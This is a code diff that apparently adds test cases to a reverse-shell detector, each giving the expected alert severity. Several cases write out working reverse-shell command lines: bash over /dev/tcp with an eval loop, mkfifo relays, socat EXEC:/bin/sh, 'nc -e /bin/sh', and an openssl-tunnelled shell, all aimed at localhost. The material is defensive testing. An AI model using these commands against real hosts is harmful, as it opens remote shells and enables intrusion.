@@ -19,6 +19,7 @@ const TECHNIQUES: &[Technique] = &[SHELL, RAW];
 // One step below what the same would be with another host at the other end.
 const DIRECT: Expected = Expected::Alert("reverse_shell", Severity::High);
 const INWARD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
+const LOCAL: Expected = Expected::Alert("reverse_shell", Severity::Medium);
 const HELD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
 
 macro_rules! shell {
@@ -104,6 +105,53 @@ pub(crate) const FAMILY: Family = Family {
             "/bin/sh"
         ),
         shell!(
+            "running",
+            DIRECT,
+            "a shell that already runs and moves to a connection",
+            "connect, execve(sh) on a pipe; exec 0<&9 1>&9 2>&9",
+            "v4",
+            "running",
+            "/bin/sh"
+        ),
+        shell!(
+            "running-bash",
+            DIRECT,
+            "bash that opens a connection, moves to it and reads commands line by line",
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT 0<&3 1>&3 2>&3; while read ...; eval'",
+            "v4",
+            "command",
+            "{find bash}",
+            "-c",
+            "exec 3<>/dev/tcp/127.0.0.1/PORT; exec 0<&3 1>&3 2>&3; while read -r line; do eval \"$line\"; done"
+        ),
+        shell!(
+            "unix",
+            LOCAL,
+            "a shell on a Unix socket, at whose other end anybody may be",
+            "socket(AF_UNIX), connect, dup3 onto 0, 1 and 2, execve(sh)",
+            "unix",
+            "dup",
+            "/bin/sh"
+        ),
+        shell!(
+            "unix-bind",
+            LOCAL,
+            "a shell for whoever connects to a Unix socket",
+            "bind, listen, accept4, dup3 onto 0, 1 and 2, execve(sh)",
+            "unix",
+            "bind",
+            "/bin/sh"
+        ),
+        shell!(
+            "vsock",
+            LOCAL,
+            "a shell on a vsock, as between a machine and its guest",
+            "socket(AF_VSOCK), connect(VMADDR_CID_LOCAL), dup3 onto 0, 1 and 2, execve(sh)",
+            "vsock",
+            "dup",
+            "/bin/sh"
+        ),
+        shell!(
             "fork",
             DIRECT,
             "a shell whose parents are gone, in a session of its own",
@@ -158,6 +206,17 @@ pub(crate) const FAMILY: Family = Family {
             "/bin/sh",
             "-c",
             "mkfifo {folder}/f; cat {folder}/f | sh 2>&1 | {program} relay PORT > {folder}/f"
+        ),
+        shell!(
+            "fifo-direct",
+            DIRECT,
+            "a shell in a circle with a relay and nothing between, as with openssl s_client",
+            "mkfifo f; sh < f 2>&1 | RELAY 127.0.0.1 PORT > f",
+            "v4",
+            "command",
+            "/bin/sh",
+            "-c",
+            "mkfifo {folder}/f; sh < {folder}/f 2>&1 | {program} relay PORT > {folder}/f"
         ),
         shell!(
             "bash",
@@ -225,6 +284,41 @@ pub(crate) const FAMILY: Family = Family {
             "{find socat}",
             "TCP:127.0.0.1:PORT",
             "EXEC:/bin/sh,pty,stderr,setsid,ctty"
+        ),
+        shell!(
+            "socat-direct",
+            DIRECT,
+            "socat that gives its connection to a shell",
+            "socat TCP:127.0.0.1:PORT EXEC:sh,nofork",
+            "v4",
+            "command",
+            "{find socat}",
+            "TCP:127.0.0.1:PORT",
+            "EXEC:/bin/sh,nofork"
+        ),
+        shell!(
+            "nc-exec",
+            DIRECT,
+            "netcat that starts a shell on its connection",
+            "nc.traditional -e /bin/sh 127.0.0.1 PORT",
+            "v4",
+            "command",
+            "{find nc.traditional}",
+            "-e",
+            "/bin/sh",
+            "127.0.0.1",
+            "PORT"
+        ),
+        shell!(
+            "openssl",
+            DIRECT,
+            "openssl with a FIFO, encrypted to another openssl that passes it on",
+            "openssl s_server | RELAY 127.0.0.1 PORT; sh < f | openssl s_client > f",
+            "v4",
+            "command",
+            "/bin/sh",
+            "-c",
+            "cd {folder} && mkfifo f g && S=$((PORT - 20000)) && ({program} relay PORT < g | {find openssl} s_server -quiet -nocert -psk 5e17 -naccept 1 -accept 127.0.0.1:$S > g 2>/dev/null &) && for i in 1 2 3 4 5; do sleep 0.3; sh < f 2>&1 | {find openssl} s_client -quiet -psk 5e17 -connect 127.0.0.1:$S > f 2>/dev/null && break; done"
         ),
     ],
 };
